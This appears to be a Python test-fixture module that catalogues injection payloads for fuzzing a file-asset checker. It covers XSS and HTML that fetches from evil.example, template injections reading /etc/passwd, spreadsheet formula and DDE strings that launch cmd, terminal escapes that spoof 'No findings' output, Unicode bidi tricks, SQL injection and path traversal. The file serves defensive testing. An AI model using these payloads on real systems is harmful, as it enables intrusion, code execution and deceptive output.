"""Text that acts where it is printed, by what it attacks. Every one of them is put into every place a file has."""

from __future__ import annotations

RUN = "document.documentElement.dataset.pwned=1"
EVIL = "http://evil.example"

PAGES = {
    "script": f"<script>{RUN}</script>",
    "script, closing": f"</script><script>{RUN}</script>",
    "style, closing": f"</style><script>{RUN}</script>",
    "title, closing": f"</title></textarea></noscript></template><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "image elsewhere": f"<img src={EVIL}/pixel.png srcset={EVIL}/2x>",
    "attribute, double": f'"><svg onload={RUN}>',
    "attribute, single": f"'><body onload={RUN}>",
    "attribute, open": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, backtick": f"`onfocus={RUN} autofocus tabindex=1 ",
    "frame": f'<iframe src="javascript:parent.{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>">',
    "link": f'<a href="javascript:{RUN}" autofocus>x</a><link rel=stylesheet href={EVIL}/x.css>',
    "style": f"<style>@import '{EVIL}/x.css';*{{background:url({EVIL}/y)}}</style>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "base": f"<base href={EVIL}/><form action=x><input autofocus></form>",
    "object": f"<object data={EVIL}/x></object><embed src={EVIL}/y>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "toggle": f"<details open ontoggle={RUN}><video><source onerror={RUN}></video></details>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "section": f"]]><script>{RUN}</script><![CDATA[",
    "null in a tag": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "seven bits": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "full width": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
}
TEMPLATES = {
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in ().__class__.__base__ %}",
    "jinja, raw": f"{{% endraw %}}{{{{ 7*7 }}}}<script>{RUN}</script>",
    "typst": '#panic("run") #eval("1") #read("/etc/passwd") #import "x.typ": * #sys.inputs',
    "typst, link": f'#link("{EVIL}")[x] @ref <label> $x^2$ `raw` *bold* _emph_ // /* \\ ~ ---',
    "rich": "[bold red]red[/bold red] [link=http://evil.example]x[/link] :bomb: \\[",
    "python": "{0.__class__} %s %n %(x)s ${x} $(id) `id`",
    "markdown": f"![x]({EVIL}/x.png) [x](javascript:{RUN}) | a | b |",
}
TABLES = {
    "formula": "=1+1",
    "formula, command": "=cmd|' /C calc'!A0",
    "formula, link": f'=HYPERLINK("{EVIL}/?"&A1,"x")',
    "formula, service": f'=WEBSERVICE("{EVIL}")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "x\n=1+1",
    "space": "  =1+1",
    "full width sign": "\uff1d1+1",
    "quotes": 'x","=1+1","y',
    "semicolon": 'x;"=1+1";y;=2+2',
    "exchange": "DDE(\"cmd\";\"/C calc\";\"x\")",
}  # fmt: skip
TERMINALS = {
    "title": "\x1b]0;gotcha\x07",
    "clipboard": "\x1b]52;c;Z290Y2hh\x1b\\",
    "hyperlink": f"\x1b]8;;{EVIL}\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H\x1b[3J",
    "colours": "\x1b[8mhidden\x1b[0m\x1b[1;31mred",
    "report": "\x1b[6n\x1b[c\x1bZ\x05",
    "eight bits": "\x9b2J\x9d0;gotcha\x9c\x90q\x9c",
    "device": "\x1bP+q544e\x1b\\\x1bX\x1b\\\x1b^x\x1b\\\x1b_x\x1b\\",
    "reset": "\x1bc\x1b(0\x0e\x0f",
    "overwrite": "safe\x08\x08\x08\x08evil\rclean\x1b[1Aup\x7f",
    "bell": "\x07\x07\x07",
    "lines": "generated\n\nChecked 1 of 1 assets; 0 could not be checked.\r\nNo findings.",
    "strange lines": "a\x0bb\x0cc\x85d\u2028e\u2029f",
}
UNSEEN = {
    "override": "\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067evil\u2069\u2068\u202d",
    "zero width": "ma\u200bde\u200c by\u200d \ufeffhand\u2060\u00ad",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "combining": "e" + "\u0301\u0327\u20dd" * 400,
    "noncharacters": "\ufffe\uffff\ufdd0\U0010ffff",
    "half": "\ud800x\udc00\udfff",
    "halves reversed": "\udc00\ud800",
    "fillers": "\u3164\u115f\u1160\uffa0\u180e\u2800",
}
OBJECTS = {
    "json, closing": '"}],"findings":[],"summary":{"assets":0},"x":[{"y":"',
    "json, line": '\n{"summary":{"assets":0,"findings":{}}}\n',
    "json, escape": '\\u001b[2J\\"\\u0000\\ud800\\',
    "json, number": "NaN, Infinity, -Infinity, 1e999",
    "sql": "'); DROP TABLE assets; --",
    "null": "before\0after",
}
PATHS = {
    "upwards": "../../../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "windows": "C:\\Windows\\system32\\x.png",
    "share": "\\\\evil.example\\share\\x.png",
    "address": "file:///etc/passwd",
    "option": "--catalogue=/dev/null",
    "device name": "CON.png",
    "separator": "a.zip!b.png!layer 3",
}
FLOODS = {
    "long": "A" * 9_000,
    "long, markup": "<b>" * 2_000,
    "long, entities": "&amp;" * 1_500,
    "long, escapes": "\x1b[31m" * 1_200,
    "wide": "\u4e00" * 3_000,
}
"""Longer than any page, and short enough to be there many thousand times: megabytes are the campaign's."""

FAMILIES = {
    "pages": PAGES, "templates": TEMPLATES, "tables": TABLES, "terminals": TERMINALS,
    "unseen": UNSEEN, "objects": OBJECTS, "paths": PATHS, "floods": FLOODS,
}  # fmt: skip
PAYLOADS = {name: text for family in FAMILIES.values() for name, text in family.items()}
